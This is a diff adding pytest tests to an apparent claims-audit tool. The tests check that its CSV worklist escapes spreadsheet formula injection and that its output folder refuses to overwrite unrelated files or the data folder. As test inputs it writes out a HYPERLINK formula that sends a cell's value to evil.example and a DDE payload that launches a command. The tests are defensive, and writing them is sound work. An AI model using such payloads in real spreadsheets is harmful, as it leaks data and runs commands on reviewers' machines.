@@ -143,3 +143,51 @@ def test_amounts_at_risk_by_cause(trained):
     has = r.index.isin(mue)
     if has.any():  # hit claims: excess share of the lines, not the learned share
         assert not np.allclose(r.loc[has, "units"], p[has] * float(share.get("units", 1.0)))
+
+
+# ------------------------------------------------------------------------------------------ output written safely
+def test_worklist_csv_escapes_formulas_and_keeps_numbers(trained, window, tmp_path):
+    """A reviewer opens worklist.csv in a spreadsheet: text cells that would run as formulas are escaped;
+    amounts (negative ones too) stay numbers; the Parquet keeps the values as they are."""
+    scorer = batch.load_scorer(trained["bundle_dir"])
+    bs = batch.score_window(trained["history"], scorer, pd.Timestamp(window[0]), pd.Timestamp(window[1]))
+    wl = audit.build_worklist(bs, scorer, capacity=5)
+    evil = '=HYPERLINK("http://evil.example/?d="&B2,"open me")'
+    wl.worklist.loc[0, "claim_id"] = evil
+    wl.worklist.loc[1, "payer_id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    wl.worklist.loc[2, "reasons"] = "-2+3"
+    wl.worklist.loc[3, "paid_amount"] = -12.5
+    audit.write_worklist(wl, tmp_path / "a")
+    raw = pd.read_csv(tmp_path / "a" / "worklist.csv", dtype=str, keep_default_na=False)
+    assert raw.loc[0, "claim_id"] == "'" + evil
+    assert raw.loc[1, "payer_id"].startswith("'@") and raw.loc[2, "reasons"] == "'-2+3"
+    assert raw.loc[3, "paid_amount"] == "-12.5"  # a number, not escaped
+    text_cells = raw.select_dtypes(object).to_numpy().ravel()
+    assert not any(str(v).startswith(("=", "+", "@", "\t", "\r")) for v in text_cells)
+    pq = pd.read_parquet(tmp_path / "a" / "worklist.parquet")
+    assert pq.loc[0, "claim_id"] == evil
+
+
+def test_audit_out_refused_when_used_or_holding_the_data(trained, window, tmp_path):
+    from features.errors import RecoupError
+
+    used = tmp_path / "used"
+    used.mkdir()
+    (used / "worklist.csv").write_text("a reviewer's notes")
+    (used / "old_report.html").write_text("older")
+    with pytest.raises(RecoupError, match="not an earlier output of `recoup audit`.*--overwrite"):
+        audit.audit_cli(trained["data_dir"], used, since=window[0], until=window[1], capacity=5)
+    assert sorted(p.name for p in used.iterdir()) == ["old_report.html", "worklist.csv"]
+    audit.audit_cli(trained["data_dir"], used, since=window[0], until=window[1], capacity=5, overwrite=True)
+    assert sorted(p.name for p in used.iterdir()) == [".recoup-output.json", "report.html", "worklist.csv",
+                                                      "worklist.parquet"]
+    import shutil
+
+    outer = tmp_path / "outer"
+    shutil.copytree(trained["data_dir"], outer / "data")
+    with pytest.raises(RecoupError, match="holds the --data folder"):
+        audit.audit_cli(outer / "data", outer, capacity=5, overwrite=True)
+    assert (outer / "data" / "claims.csv").exists()
+    (tmp_path / "afile").write_text("x")
+    with pytest.raises(RecoupError, match="is a file, not a folder"):
+        audit.audit_cli(trained["data_dir"], tmp_path / "afile" / "out", capacity=5)
